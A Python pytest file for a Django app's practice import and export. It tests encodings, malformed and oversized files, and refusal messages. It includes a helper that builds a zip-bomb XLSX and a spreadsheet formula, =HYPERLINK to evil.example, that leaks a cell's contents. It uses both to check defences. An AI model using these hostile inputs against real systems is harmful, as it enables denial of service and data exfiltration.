"""Files people really send, and files sent to hurt: every import answers on the page."""

import io
import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from levier.lib import archives
from levier.practices import exchange
from levier.practices.models import Practice
from tests.engine.hostile_packs import MAX_PEAK_BYTES, MAX_SECONDS, measure
from tests.factories import make_network_staff
from tests.practices.factories import make_practice

pytestmark = pytest.mark.django_db

HEADER = ["code", "title", "summary", "steps", "effort", "cost", "themes"]
ROW = ["charte-teletravail", "Charte de télétravail", "Un cadre écrit", "Rédiger", "low", "none"]


@pytest.fixture
def animator_client(client, network):
    client.force_login(make_network_staff(network))
    return client


def _import(client, network, name: str, content: bytes):
    return client.post(
        reverse("practice_import", args=[network.slug]),
        {"file": SimpleUploadedFile(name, content)},
    )


def _refused(response) -> str:
    """The page of a refused import: status 400 and "nothing was imported"."""
    assert response.status_code == 400
    page = response.content.decode()
    assert "rien n’a été importé" in page
    return page


def _csv(lines: list[list[str]], delimiter=",") -> str:
    return "\r\n".join(delimiter.join(cells) for cells in lines) + "\r\n"


def _xlsx(rows) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_csv_from_french_excel_in_windows_1252_keeps_its_accents(animator_client, network):
    title = "Œuvrer pour l’égalité « réelle »"  # œ, ’ and « » exist in Windows-1252 only
    content = _csv([HEADER, ["egalite", title, "Résumé", "Étape", "low", "none", ""]], ";")

    response = _import(animator_client, network, "pratiques.csv", content.encode("cp1252"))

    assert response.status_code == 302
    assert Practice.objects.get(code="egalite").title == title


def test_a_utf8_csv_with_its_byte_order_mark_is_read(animator_client, network):
    content = "\ufeff" + _csv([HEADER, [*ROW, ""]])

    response = _import(animator_client, network, "pratiques.csv", content.encode("utf-8"))

    assert response.status_code == 302
    assert Practice.objects.get(code="charte-teletravail").title == "Charte de télétravail"


def test_semicolons_separate_columns_even_when_cells_hold_commas(animator_client, network):
    row = ["velos", "Vélos", "Moins de voitures, plus de vélos", "Acheter, prêter", "low", "none"]
    content = _csv([HEADER, [*row, "ENV-MOB"]], ";")

    response = _import(animator_client, network, "pratiques.csv", content.encode("utf-8"))

    assert response.status_code == 302
    practice = Practice.objects.get(code="velos")
    assert practice.summary == "Moins de voitures, plus de vélos"
    assert practice.themes == ["ENV-MOB"]


def test_a_one_column_csv_is_refused_clearly(animator_client, network):
    response = _import(animator_client, network, "codes.csv", b"code\negalite\nvelos\n")

    assert "une seule colonne («\u00a0code\u00a0»)" in _refused(response)


def test_a_tab_separated_file_is_refused_clearly(animator_client, network):
    content = _csv([HEADER, [*ROW, ""]], "\t").encode()

    page = _refused(_import(animator_client, network, "pratiques.csv", content))

    assert "virgules ou des points-virgules" in page


@pytest.mark.parametrize(
    "content",
    [
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,  # an image renamed
        bytes(range(256)) * 40,  # bytes of every value
        _xlsx([HEADER]),  # an XLSX file renamed
    ],
    ids=["png", "random", "xlsx"],
)
def test_a_binary_file_named_csv_is_refused(animator_client, network, content):
    page = _refused(_import(animator_client, network, "pratiques.csv", content))

    assert "Ce fichier n’est pas du texte" in page


def test_utf16_is_refused_with_how_to_save_it(animator_client, network):
    content = _csv([HEADER, [*ROW, ""]]).encode("utf-16")

    assert "UTF-16" in _refused(_import(animator_client, network, "pratiques.csv", content))


def test_text_in_another_encoding_is_refused(animator_client, network):
    # 0x81 and 0x8d are neither UTF-8 nor Windows-1252.
    content = _csv([HEADER, ["code", "Titre \x81\x8d", "r", "e", "low", "none", ""]])

    page = _refused(_import(animator_client, network, "p.csv", content.encode("latin-1")))

    assert "ni en UTF-8 ni en Windows-1252" in page


def test_an_html_page_named_xlsx_is_refused(animator_client, network):
    content = b"<!DOCTYPE html><html><body><table><tr><td>code</td></tr></table></body></html>"

    page = _refused(_import(animator_client, network, "pratiques.xlsx", content))

    assert "pas un fichier XLSX que Levier sait lire" in page


def _zip_bomb(unpacked_bytes: int) -> bytes:
    """A real XLSX whose sheet unpacks to `unpacked_bytes` of rows, from a few megabytes."""
    base = zipfile.ZipFile(BytesIO(_xlsx([HEADER, [*ROW, ""]])))
    row = b"<row>" + b'<c t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c>" + b"</row>"
    chunk = row * (1024 * 1024 // len(row))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
        for part in base.infolist():
            if part.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(part, base.read(part))
                continue
            with bomb.open(part.filename, "w") as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/')
                sheet.write(b'spreadsheetml/2006/main"><sheetData>')
                for _ in range(unpacked_bytes // len(chunk)):
                    sheet.write(chunk)
                sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


@pytest.fixture(scope="module")
def zip_bomb():
    return _zip_bomb(256 * 1024 * 1024)


def test_a_zip_bomb_xlsx_is_refused_before_it_unpacks(animator_client, network, zip_bomb):
    assert len(zip_bomb) < 4 * 1024 * 1024
    # Measured warm: the first page Django renders loads templates and catalogues.
    _import(animator_client, network, "pratiques.csv", b"code\n")

    cost = measure(lambda: _import(animator_client, network, "pratiques.xlsx", zip_bomb))

    assert "Décompressé, ce fichier XLSX occuperait plus de" in _refused(cost.result)
    assert cost.seconds < MAX_SECONDS
    assert cost.peak_bytes < MAX_PEAK_BYTES


def test_an_archive_of_countless_parts_is_refused_before_they_are_listed():
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(archives.MAX_PARTS + 1):
            archive.writestr(f"part{index}", b"")
    upload = SimpleUploadedFile("many.xlsx", buffer.getvalue())

    with pytest.raises(exchange.ImportRefused) as refused:
        exchange.read_file(upload)

    assert "XLSX" in str(refused.value)


def test_a_nul_byte_in_a_cell_is_refused_naming_its_line(animator_client, network):
    rows = [HEADER, [*ROW, ""], ["velos", "Vélos", "Moins\x00de voitures", "A", "low", "none", ""]]

    page = _refused(_import(animator_client, network, "p.csv", _csv(rows).encode()))

    assert "Ligne 3, summary\u00a0: contient le caractère de contrôle invisible NUL" in page
    assert not Practice.objects.exists()


def test_a_nul_character_in_an_xlsx_cell_is_refused(animator_client, network):
    # openpyxl refuses to write NUL, and XML cannot hold it: a hand-made file can still
    # say &#0;, which the XML parser rejects.
    content = _xlsx([HEADER, [*ROW, ""], ["velos", "Vélos", "PLACEHOLDER", "A", "low", "none"]])
    content = _patch_shared_string(content, b"PLACEHOLDER", b"Moins&#0;")

    page = _refused(_import(animator_client, network, "p.xlsx", content))

    assert "pas un fichier XLSX que Levier sait lire" in page
    assert not Practice.objects.exists()


def _patch_shared_string(content: bytes, old: bytes, new: bytes) -> bytes:
    source = zipfile.ZipFile(BytesIO(content))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as patched:
        for part in source.infolist():
            patched.writestr(part, source.read(part).replace(old, new))
    return buffer.getvalue()


def test_more_than_ten_thousand_lines_are_refused_without_reading_on(animator_client, network):
    line = ",".join(["x", "Titre", "Résumé", "Étape", "low", "none", ""])
    content = (",".join(HEADER) + "\n" + (line + "\n") * (exchange.MAX_ROWS + 1)).encode()

    page = _refused(_import(animator_client, network, "p.csv", content))

    assert "Au plus 10 000 lignes" in page


def test_an_xlsx_declaring_more_than_ten_thousand_lines_is_refused(animator_client, network):
    rows = [HEADER, *([f"p{n}", "Titre", "Résumé", "Étape", "low", "none"] for n in range(10_001))]

    page = _refused(_import(animator_client, network, "p.xlsx", _xlsx(rows)))

    assert "Au plus 10 000 lignes" in page


def test_rows_far_down_an_xlsx_without_its_size_stop_the_reading():
    # No <dimension>: openpyxl would fill the million rows in between, one by one.
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'
        b'<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    content = _replace_part(_xlsx([HEADER]), "xl/worksheets/sheet1.xml", sheet)

    cost = measure(lambda: _read_refusal(SimpleUploadedFile("p.xlsx", content)))

    assert "Au plus 10 000 lignes" in cost.result
    assert cost.seconds < MAX_SECONDS


def _read_refusal(upload) -> str:
    with translation.override("fr"), pytest.raises(exchange.ImportRefused) as refused:
        exchange.read_file(upload)
    return str(refused.value)


def _replace_part(content: bytes, name: str, data: bytes) -> bytes:
    source = zipfile.ZipFile(BytesIO(content))
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as replaced:
        for part in source.infolist():
            replaced.writestr(part, data if part.filename == name else source.read(part))
    return buffer.getvalue()


class _UnreadableUpload(SimpleUploadedFile):
    def read(self, *args):
        raise AssertionError("the upload was read")


@pytest.mark.parametrize("name", ["big.csv", "big.xlsx"])
def test_an_oversize_file_is_refused_on_its_declared_size(name):
    upload = _UnreadableUpload(name, b"")
    upload.size = exchange.MAX_FILE_BYTES + 1

    with pytest.raises(exchange.ImportRefused) as refused:
        exchange.read_file(upload)

    assert "20" in str(refused.value)


def test_an_oversize_file_is_refused_on_the_page(animator_client, network, monkeypatch):
    monkeypatch.setattr(exchange, "MAX_FILE_BYTES", 1024)
    content = _csv([HEADER, *([*ROW, ""] for _ in range(30))]).encode()

    page = _refused(_import(animator_client, network, "p.csv", content))

    # Sizes never wrap: the space is a no-break one.
    assert "Le fichier dépasse 1,0\xa0Kio" in page


@pytest.mark.parametrize(
    ("content", "message"),
    [
        # One line of millions of separators: the csv module would build it whole.
        (b"code,title\n" + b"," * 2_000_000 + b"\n", "bien plus de cellules"),
        # Millions of blank lines: no rows, yet each one read.
        (b"code,title\n" + b"\n" * 2 * exchange.MAX_LINES, "Au plus 10 000 lignes"),
        # A header cell over the csv module's field limit.
        (b'code,"' + b"x" * 200_000 + b'"\n', "Ligne 1"),
    ],
    ids=["separators", "blank-lines", "huge-header"],
)
def test_a_flood_within_the_size_limit_is_refused_at_once(content, message):
    cost = measure(lambda: _read_refusal(SimpleUploadedFile("p.csv", content)))

    assert message in cost.result
    assert cost.seconds < MAX_SECONDS
    assert cost.peak_bytes < MAX_PEAK_BYTES


def test_a_huge_cell_is_refused_on_the_page(animator_client, network):
    content = _csv([HEADER, ["big", "Titre", "x" * 200_000, "e", "low", "none", ""]]).encode()

    assert "Ligne 2" in _refused(_import(animator_client, network, "p.csv", content))


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_text_that_looks_like_a_formula_survives_export_and_import(
    animator_client, network, extension
):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    steps = "- Consulter l’équipe\n- Rédiger"
    make_practice(network, code="formule", title=title, summary="@résumé", steps=steps)
    exported = animator_client.get(reverse("practice_export", args=[network.slug, extension]))
    Practice.objects.all().delete()

    response = _import(animator_client, network, f"export.{extension}", exported.content)

    assert response.status_code == 302
    practice = Practice.objects.get(code="formule")
    assert (practice.title, practice.summary, practice.steps) == (title, "@résumé", steps)


def test_an_exported_xlsx_cell_holds_the_text_behind_its_quote(animator_client, network):
    make_practice(network, code="formule", title="=1+1")

    exported = animator_client.get(reverse("practice_export", args=[network.slug, "xlsx"]))

    sheet = load_workbook(io.BytesIO(exported.content)).active
    assert sheet["B2"].value == "'=1+1" and sheet["B2"].data_type == "s"


def test_a_file_of_many_bad_lines_lists_the_first_hundred_problems(animator_client, network):
    bad = ["velos", "Vélos", "Moins de voitures", "A", "huge", "none", ""]  # unknown effort
    rows = [HEADER] + [[f"{bad[0]}-{n}", *bad[1:]] for n in range(150)]

    page = _refused(_import(animator_client, network, "p.csv", _csv(rows).encode()))

    assert page.count("<li>Ligne ") == 100
    assert "150 problèmes" in page and "… et 50 autres problèmes." in page


def test_an_overlong_title_is_refused_on_its_line_not_cut(animator_client, network):
    rows = [HEADER, [ROW[0], "V" * 201, *ROW[2:], ""]]

    page = _refused(_import(animator_client, network, "p.csv", _csv(rows).encode()))

    assert "Ligne 2, title" in page
    assert not Practice.objects.exists()
